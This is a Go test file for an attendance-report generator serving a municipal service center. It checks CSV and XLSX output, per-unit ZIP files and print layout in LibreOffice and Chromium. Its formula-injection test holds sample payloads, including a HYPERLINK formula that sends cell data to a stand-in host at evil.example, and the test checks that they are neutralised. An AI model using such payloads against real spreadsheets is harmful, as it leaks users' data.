package reports

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// TestFormulaInjection: roster texts that a spreadsheet would run as a formula (= + - @, and a
// leading tab or carriage return) are written as text: prefixed with ' in the CSVs, string cells
// in the workbook.
func TestFormulaInjection(t *testing.T) {
	bad := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点我")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	in := monthCases(t)["final"]
	staff := append([]Staff(nil), in.Staff...)
	for i, s := range bad {
		staff[i].Name = s
		staff[i].Window = s
	}
	in.Staff = staff
	rep := BuildMonth(in)
	for _, w := range []struct {
		name  string
		write func(*bytes.Buffer) error
	}{{"summary", func(b *bytes.Buffer) error { return rep.WriteCSV(b) }}, {"detail", func(b *bytes.Buffer) error { return rep.WriteDetailCSV(b) }},
		{"sheet", func(b *bytes.Buffer) error { return rep.WriteSheetCSV(b) }}} {
		var b bytes.Buffer
		if err := w.write(&b); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte(utf8BOM)))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := 0
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s CSV: cell %q starts a formula", w.name, c)
				}
				for _, s := range bad {
					if c == "'"+s {
						seen++
					}
				}
			}
		}
		if seen == 0 {
			t.Errorf("%s CSV: no roster text written with its ' prefix", w.name)
		}
	}
	var b bytes.Buffer
	if err := rep.WriteXLSX(&b); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, sheet := range []string{"个人汇总", "考勤表", "明细"} {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					t.Errorf("%s!%s is a formula %q", sheet, cell, fm)
				}
				for _, s := range bad {
					if v == s {
						found++
						if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
							t.Errorf("%s!%s %q: cell type %v, want a string", sheet, cell, v, typ)
						}
					}
				}
			}
		}
		if found == 0 {
			t.Errorf("%s: the roster texts are not in the workbook as written", sheet)
		}
	}
}

// TestUnitsZIP: the ZIP has a workbook per unit, each with that unit's staff only, and the month's
// per-unit reports add up to the center's.
func TestUnitsZIP(t *testing.T) {
	in := monthCases(t)["closed"]
	var b bytes.Buffer
	if err := WriteUnitsZIP(&b, in); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	unitOf := map[string]string{}
	for _, s := range in.Staff {
		unitOf[s.ID] = s.Unit
	}
	var names []string
	total := 0
	for _, zf := range zr.File {
		names = append(names, zf.Name)
		unit := strings.TrimSuffix(strings.TrimPrefix(zf.Name, "考勤月报-2026-09-"), ".xlsx")
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("%s: %v", zf.Name, err)
		}
		for _, sheet := range []string{"个人汇总", "考勤表"} {
			rows, _ := f.GetRows(sheet)
			if title := rows[0][0]; !strings.HasSuffix(title, " · "+unit) && !strings.Contains(title, "· "+unit) {
				t.Errorf("%s %s: title %q does not name the unit", zf.Name, sheet, title)
			}
			for _, row := range rows[headRows:] {
				if len(row) == 0 || unitOf[row[0]] == "" {
					continue // 合计, 每日, signature
				}
				if unitOf[row[0]] != unit {
					t.Errorf("%s %s: staff %s of unit %s", zf.Name, sheet, row[0], unitOf[row[0]])
				}
				if sheet == "个人汇总" {
					total++
				}
			}
		}
		f.Close()
	}
	if want := "考勤月报-2026-09-公安局.xlsx 考勤月报-2026-09-民政局.xlsx 考勤月报-2026-09-税务局.xlsx"; strings.Join(names, " ") != want {
		t.Errorf("files: got %q, want %q", names, want)
	}
	if n := len(BuildMonth(in).Rows); total != n {
		t.Errorf("the units' files list %d staff, the center has %d", total, n)
	}
}

// renderDir is where the print tests leave their PDFs and PNGs: KAOQIN_RENDER_DIR to look at them,
// else a temporary directory.
func renderDir(t *testing.T) string {
	if d := os.Getenv("KAOQIN_RENDER_DIR"); d != "" {
		return d
	}
	return t.TempDir()
}

// word is a word of pdftotext -bbox: its page, box (points) and text.
type word struct {
	page                   int
	xMin, yMin, xMax, yMax float64
	text                   string
}

var (
	pageRe = regexp.MustCompile(`<page width`)
	wordRe = regexp.MustCompile(`<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>`)
)

func pdfWords(t *testing.T, pdf string) ([]word, int) {
	t.Helper()
	out, err := exec.Command("pdftotext", "-bbox", pdf, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	var ws []word
	page := 0
	for _, line := range strings.Split(string(out), "\n") {
		if pageRe.MatchString(line) {
			page++
			continue
		}
		if m := wordRe.FindStringSubmatch(line); m != nil {
			w := word{page: page, text: htmlUnescape(m[5])}
			w.xMin, _ = strconv.ParseFloat(m[1], 64)
			w.yMin, _ = strconv.ParseFloat(m[2], 64)
			w.xMax, _ = strconv.ParseFloat(m[3], 64)
			w.yMax, _ = strconv.ParseFloat(m[4], 64)
			ws = append(ws, w)
		}
	}
	return ws, page
}

func htmlUnescape(s string) string {
	return strings.NewReplacer("&amp;", "&", "&lt;", "<", "&gt;", ">", "&quot;", `"`, "&#39;", "'").Replace(s)
}

// checkPrinted checks a printed report: the signature block on its last page, every page of a
// table numbered "第 x 页，共 y 页", no text smaller than 9 pt on them, and no text drawn over other
// text (what a wrapped cell too short for its text does in LibreOffice's PDF: the clipped lines
// are still in the file, over the next row).
func checkPrinted(t *testing.T, ws []word, pages int, what string) {
	t.Helper()
	byPage := make([][]word, pages+1)
	for _, w := range ws {
		byPage[w.page] = append(byPage[w.page], w)
	}
	text := func(p int) string {
		var b strings.Builder
		for _, w := range byPage[p] {
			b.WriteString(w.text)
		}
		return b.String()
	}
	last := text(pages)
	for _, s := range []string{"制表人：", "审核人：", "中心负责人：", "日期："} {
		if !strings.Contains(last, s) {
			t.Errorf("%s: the last page (%d) has no %s", what, pages, s)
		}
	}
	numbered := 0
	for p := 1; p <= pages; p++ {
		txt := text(p)
		if !regexp.MustCompile(`第\d+页，共` + strconv.Itoa(pages) + `页`).MatchString(txt) {
			continue // the charts and their figures
		}
		numbered++
		// A table wider than the page spills its right-hand columns onto pages of their own,
		// without the id column or a summary's title.
		if !strings.Contains(txt, "工号") && !strings.Contains(txt, "汇总") {
			t.Errorf("%s page %d holds columns spilled from a table too wide for the page: %.80s", what, p, txt)
		}
		for _, w := range byPage[p] {
			// pdftotext's box of a line of text is about 1.30 times its font size.
			if h := w.yMax - w.yMin; h < 9*1.29 {
				t.Errorf("%s page %d: %q is %.1f pt, under 9 pt", what, p, w.text, h/1.30)
				break
			}
		}
		ps := byPage[p]
		for i := range ps {
			for j := i + 1; j < len(ps); j++ {
				a, b := ps[i], ps[j]
				dx := math.Min(a.xMax, b.xMax) - math.Max(a.xMin, b.xMin)
				dy := math.Min(a.yMax, b.yMax) - math.Max(a.yMin, b.yMin)
				if dx > 0.5*math.Min(a.xMax-a.xMin, b.xMax-b.xMin) && dy > 0.6*math.Min(a.yMax-a.yMin, b.yMax-b.yMin) {
					t.Errorf("%s page %d: %q drawn over %q (a cell's text cut off)", what, p, a.text, b.text)
				}
			}
		}
	}
	if numbered == 0 {
		t.Errorf("%s: no page says 第 x 页，共 %d 页", what, pages)
	}
}

// TestXLSXPrintsInLibreOffice converts the workbook to PDF with LibreOffice, as a center without
// Excel prints it, and reads the PDF back: signature block on the last page, pages numbered, no
// text under 9 pt, no cell text cut, every finding's evidence there in full. It renders the pages
// to PNG too (KAOQIN_RENDER_DIR keeps them to look at).
func TestXLSXPrintsInLibreOffice(t *testing.T) {
	if testing.Short() {
		t.Skip("LibreOffice test skipped with -short")
	}
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("soffice not installed (apt-get install -y libreoffice-calc); LibreOffice print test skipped")
	}
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Skip("pdftotext not installed (apt-get install -y poppler-utils); LibreOffice print test skipped")
	}
	dir := renderDir(t)
	in := monthCases(t)["closed"]
	in.Generated = time.Date(2026, 10, 8, 9, 31, 0, 0, time.UTC)
	rep := BuildMonth(in)
	xlsx := filepath.Join(dir, "month.xlsx")
	var b bytes.Buffer
	if err := rep.WriteXLSX(&b); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(xlsx, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	// A profile of its own: a LibreOffice already running for the same user would take the job.
	cmd := exec.CommandContext(ctx, soffice, "-env:UserInstallation=file://"+filepath.Join(t.TempDir(), "lo"),
		"--headless", "--convert-to", "pdf", "--outdir", dir, xlsx)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	pdf := filepath.Join(dir, "month.pdf")
	ws, pages := pdfWords(t, pdf)
	if pages < 5 {
		t.Fatalf("the PDF has %d pages, want a page or more per sheet", pages)
	}
	checkPrinted(t, ws, pages, "XLSX")
	// A month of 31 days with a holiday week (the widest sheet): still one page wide.
	oct := monthCases(t)["final"]
	oct.Month = Month{2026, time.October}
	oct.Results = nil
	b.Reset()
	if err := BuildMonth(oct).WriteXLSX(&b); err != nil {
		t.Fatal(err)
	}
	octX := filepath.Join(dir, "october.xlsx")
	if err := os.WriteFile(octX, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd = exec.CommandContext(ctx, soffice, "-env:UserInstallation=file://"+filepath.Join(t.TempDir(), "lo"),
		"--headless", "--convert-to", "pdf", "--outdir", dir, octX)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	octWords, octPages := pdfWords(t, filepath.Join(dir, "october.pdf"))
	checkPrinted(t, octWords, octPages, "XLSX of October")
	var all strings.Builder
	for _, w := range ws {
		all.WriteString(w.text)
	}
	flat := all.String()
	for _, want := range []string{"某市政务服务中心2026年9月考勤表", "某市政务服务中心2026年9月考勤纪律月报·明细", "打印日期：2026-10-08", "09-25至09-27中秋节"} {
		if !strings.Contains(flat, want) {
			t.Errorf("the PDF lacks %q", want)
		}
	}
	// Every evidence text in full, in order (pdftotext cuts lines apart, not their characters).
	for _, d := range rep.Details {
		ev := strings.Join(strings.Fields(evidenceText(&d.Evidence)), "")
		for _, part := range strings.Split(ev, "；") {
			if part = strings.TrimSpace(part); !strings.Contains(flat, part) && !containsScattered(flat, part) {
				t.Errorf("the PDF lacks the evidence %q of %s %s", part, d.StaffID, d.Date)
			}
		}
	}
	if _, err := exec.LookPath("pdftoppm"); err == nil {
		if out, err := exec.CommandContext(ctx, "pdftoppm", "-r", "60", "-png", pdf, filepath.Join(dir, "month")).CombinedOutput(); err != nil {
			t.Errorf("pdftoppm: %v\n%s", err, out)
		}
	}
}

// containsScattered reports whether the characters of part appear in s in order within a window:
// a wrapped cell's lines come out of pdftotext between the other cells of their row.
func containsScattered(s, part string) bool {
	rs, ps := []rune(s), []rune(part)
	for start := 0; start < len(rs); start++ {
		if rs[start] != ps[0] {
			continue
		}
		k := 0
		for i := start; i < len(rs) && i < start+len(ps)*6 && k < len(ps); i++ {
			if rs[i] == ps[k] {
				k++
			}
		}
		if k == len(ps) {
			return true
		}
	}
	return false
}

// TestHTMLPrintsInChromium prints the HTML report with headless Chromium, as HR prints it from
// the browser, and reads the PDF back: the signature block on the last page, pages numbered,
// nothing under 9 pt, and no name or date broken over lines.
func TestHTMLPrintsInChromium(t *testing.T) {
	if testing.Short() {
		t.Skip("Chromium test skipped with -short")
	}
	var bin string
	for _, p := range []string{os.Getenv("KAOQIN_CHROMIUM"), "/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"} {
		if p != "" {
			if _, err := os.Stat(p); err == nil {
				bin = p
				break
			}
		}
	}
	if bin == "" {
		t.Skip("chromium not installed (apt-get install -y chromium); HTML print test skipped")
	}
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Skip("pdftotext not installed (apt-get install -y poppler-utils); HTML print test skipped")
	}
	dir := renderDir(t)
	in := monthCases(t)["closed"]
	in.Generated = time.Date(2026, 10, 8, 9, 31, 0, 0, time.UTC)
	rep := BuildMonth(in)
	page := filepath.Join(dir, "month.html")
	var b bytes.Buffer
	if err := rep.WriteHTML(&b); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(page, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	pdf := filepath.Join(dir, "month-html.pdf")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir="+t.TempDir(),
		"--no-pdf-header-footer", "--print-to-pdf="+pdf, "file://"+page)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("chromium: %v\n%s", err, out)
	}
	ws, pages := pdfWords(t, pdf)
	checkPrinted(t, ws, pages, "HTML")
	// Names and dates on one line each: a name broken per character shows as words one
	// character wide stacked in a column.
	for _, r := range rep.Rows {
		found := false
		for _, w := range ws {
			if strings.Contains(w.text, r.Staff.Name) {
				found = true
				break
			}
		}
		if !found {
			t.Errorf("HTML PDF: the name %s is not on one line anywhere", r.Staff.Name)
		}
	}
	if _, err := exec.LookPath("pdftoppm"); err == nil {
		if out, err := exec.CommandContext(ctx, "pdftoppm", "-r", "60", "-png", pdf, filepath.Join(dir, "month-html")).CombinedOutput(); err != nil {
			t.Errorf("pdftoppm: %v\n%s", err, out)
		}
	}
}
